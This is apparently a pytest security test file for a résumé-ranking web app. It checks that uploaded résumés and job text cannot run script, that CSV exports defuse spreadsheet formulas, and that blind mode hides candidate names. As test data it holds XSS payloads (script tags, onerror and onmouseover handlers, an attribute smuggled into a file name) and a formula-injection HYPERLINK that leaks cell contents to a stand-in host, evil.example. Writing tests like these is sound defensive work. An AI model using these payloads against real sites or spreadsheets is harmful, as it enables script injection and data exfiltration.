"""A résumé is hostile HTML until proven otherwise, and names stay hidden where they are to be."""

from __future__ import annotations

import csv
import io

import pytest

from matcher.web.shown import LOCAL, ExportKind, RankingView, Which

SCRIPT = "<script>window.pwned = 1</script><img src=x onerror='window.pwned = 2'>"
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"open")'
RESUMES = {
    "tags.txt": f"{SCRIPT}\nJava developer since 2015.\n</textarea></div>{SCRIPT}\n- Java, SQL\n",
    "tags.html": f"<html><body>{SCRIPT}<p>Java and SQL, 2015 to 2024.</p></body></html>",
    "line.txt": "Java developer. " + "SQL and Java at work. " * 240_000,
    "quotes'\" onfocus=alert(1) x=.txt": "Java and SQL, 2016 to date, at a small firm up north.",
}
LIST = [
    ["candidate_id", "name", "resume_text", "Note"],
    [FORMULA, f"{SCRIPT}Eve", "Java developer since 2015, SQL every day.", FORMULA],
    ["@SUM(1)", "+Mallory", "Java, Kafka and SQL since 2019.", "-2+3"],
]
DESCRIPTION = (
    f"Java developer {SCRIPT}\n\nRequirements\n- Java\n- SQL {SCRIPT}\n- Experience with "
    "<b onmouseover=alert(1)>Kafka</b>\n\nNice to have\n- Go\n"
)


@pytest.fixture(scope="module")
def hostile(site):
    """A job and applicants that try what they can."""
    job = site.workspace.create_job(LOCAL, DESCRIPTION)
    table = io.StringIO()
    csv.writer(table).writerows(LIST)
    files = [(name, text.encode()) for name, text in RESUMES.items()]
    files.append(("list.csv", table.getvalue().encode()))
    intake = site.workspace.add_applicants(LOCAL, job.id, files)
    assert site.workspace.wait(intake.id, 120)
    return job.id


def test_nothing_runs_and_everything_is_shown(window, site, hostile):
    rows = site.workspace.ranking(LOCAL, hostile, RankingView(size=10)).rows
    paths = [f"/jobs/{hostile}", f"/jobs/{hostile}/ranking", f"/jobs/{hostile}/applicants"]
    paths += [f"/jobs/{hostile}/applicants/{row.applicant_id}" for row in rows]
    paths += ["/", "/people?q=Eve"]
    paths.append(f"/jobs/{hostile}/compare?id={rows[0].applicant_id}&id={rows[1].applicant_id}")
    seen = ""
    for path in paths:
        page = window.go(path)
        assert page.evaluate("window.pwned") is None, path
        assert page.locator("main img, main script, main [onmouseover]").count() == 0, path
        seen += page.locator("main").inner_text()
    assert "<script>window.pwned = 1</script>" in seen
    assert len(rows) >= 5


def test_the_long_line_is_either_read_or_named(window, site, hostile):
    page = window.go(f"/jobs/{hostile}/applicants")
    shown = page.locator("main").inner_text()
    rows = site.workspace.ranking(LOCAL, hostile, RankingView(size=10)).rows
    assert "line.txt" in shown
    assert any("line" in row.candidate_id for row in rows) or "could not be read" in shown


def test_formulas_stay_words(site, hostile):
    made = site.workspace.export(LOCAL, hostile, ExportKind.CSV, Which.ALL)
    cells = [
        cell for row in csv.reader(io.StringIO(made.content.decode("utf-8-sig"))) for cell in row
    ]
    assert any("HYPERLINK" in cell for cell in cells)
    assert not [
        c for c in cells if c[:1] in ("=", "+", "@") and not c[1:].replace(".", "").isdigit()
    ]


def test_blind_hides_names_in_pages_titles_and_addresses(window, site, job):
    names = ["Demirkol", "Aarrestad", "Malinčeková", "ayse", "zofia"]
    first = site.workspace.ranking(LOCAL, job, RankingView(size=2, blind=True)).rows
    page = window.go(f"/jobs/{job}/ranking")
    assert "Demirkol" in page.content()
    page.get_by_role("switch", name="Blind").click()
    page.wait_for_selector("[role=switch][aria-checked=true]")
    ids = "&".join(f"id={row.applicant_id}" for row in first)
    for path in (
        f"/jobs/{job}/ranking",
        f"/jobs/{job}/ranking?q=Demirkol",
        f"/jobs/{job}",
        f"/jobs/{job}/applicants/{first[0].applicant_id}?n=1",
        f"/jobs/{job}/compare?{ids}",
        "/people?q=Demirkol",
    ):
        page = window.go(path)
        asked = "Demirkol" if "Demirkol" in path else None
        found = [name for name in names if name in page.content() and name != asked]
        assert not found, path
        assert not any(name in page.title() + page.url for name in names if name != asked)
        assert page.locator("main").inner_text().count("Demirkol") == 0
